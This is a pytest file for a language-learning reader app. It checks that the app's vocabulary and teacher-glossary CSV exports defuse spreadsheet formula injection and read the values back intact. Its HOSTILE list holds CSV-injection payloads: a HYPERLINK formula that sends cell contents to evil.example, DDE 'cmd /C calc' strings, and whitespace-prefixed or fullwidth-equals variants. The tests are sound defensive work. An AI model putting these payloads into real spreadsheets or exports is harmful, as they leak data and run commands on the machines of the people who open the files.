"""No CSV we write holds a cell a spreadsheet would run as a formula; our reader undoes it."""

from __future__ import annotations

import csv

import pytest

from reader.core.exporters.csv_cells import FORMULA_STARTS
from reader.core.exporters.vocab_csv import read_csv, write_csv
from reader.core.glossary_file import read_file
from reader.core.store import Store
from reader.core.user_glossary import UserGlossary
from reader.core.vocab_item import VocabItem

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]


def _runs(cell: str) -> bool:
    """Would a spreadsheet treat this cell as a formula?"""
    return cell.lstrip(" \t\r").startswith(FORMULA_STARTS) or cell.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("bad", HOSTILE)
def test_vocab_export_neutralises_formulas_and_reads_them_back(tmp_path, bad):
    item = VocabItem(lemma=bad, status="known", gloss=bad, sentence=bad, source=bad, surface=bad)
    out = tmp_path / "words.csv"
    write_csv([item], out)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in list(csv.reader(fh))[1:] for c in row]
    assert not [c for c in cells if _runs(c)]
    (back,) = read_csv(out)
    assert back.gloss == bad.strip() and back.sentence == bad.strip()


def test_plain_words_are_written_as_they_are(tmp_path):
    item = VocabItem(lemma="peut-être", gloss="maybe", sentence="'Bien' dit-il.", lookups=-1)
    out = tmp_path / "w.csv"
    write_csv([item], out)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        row = dict(zip(*csv.reader(fh), strict=True))
    assert row["lemma"] == "peut-être" and row["sentence"] == "'Bien' dit-il."
    assert row["lookups"] == "-1"  # numbers are not text a spreadsheet would run


def test_teacher_glossary_csv_neutralises_formulas(data_dir, tmp_path):
    glossary = UserGlossary(Store())
    for i, bad in enumerate(HOSTILE):
        glossary.set(f"mot{i}", "NOUN", bad, note=bad)
    out = tmp_path / "glossary.csv"
    glossary.export(out)
    with out.open(encoding="utf-8", newline="") as fh:
        cells = [c for row in list(csv.reader(fh))[1:] for c in row]
    assert cells and not [c for c in cells if _runs(c)]
    back = read_file(out)
    assert sorted(g.gloss for g in back.entries) == sorted(g.gloss for g in glossary.all())
